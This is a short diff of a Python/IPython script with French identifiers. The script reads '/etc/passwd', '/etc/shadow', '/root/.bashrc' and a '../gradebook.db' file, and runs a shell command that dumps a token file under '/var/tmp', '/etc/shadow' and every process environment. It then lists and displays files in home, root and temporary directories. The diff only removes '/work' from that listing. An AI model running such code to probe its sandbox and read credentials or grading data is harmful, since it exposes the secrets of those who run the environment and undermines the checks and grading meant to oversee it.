@@ -7,7 +7,7 @@ for chemin in ("/etc/passwd", "/etc/shadow", "/root/.bashrc", "../gradebook.db",
             print(nom, chemin, ip.run_line_magic(nom, ligne))
         except BaseException as erreur:
             print(nom, chemin, type(erreur).__name__)
-ip.system("cat /var/tmp/*/jeton /etc/shadow /proc/*/environ 2>&1; ls /work /home /root /srv /mnt /media")
+ip.system("cat /var/tmp/*/jeton /etc/shadow /proc/*/environ 2>&1; ls /home /root /srv /mnt /media")
 from IPython.display import FileLink, Image, Code
 for chemin in glob.glob("/var/tmp/*/*") + ["/etc/shadow"]:
     try:
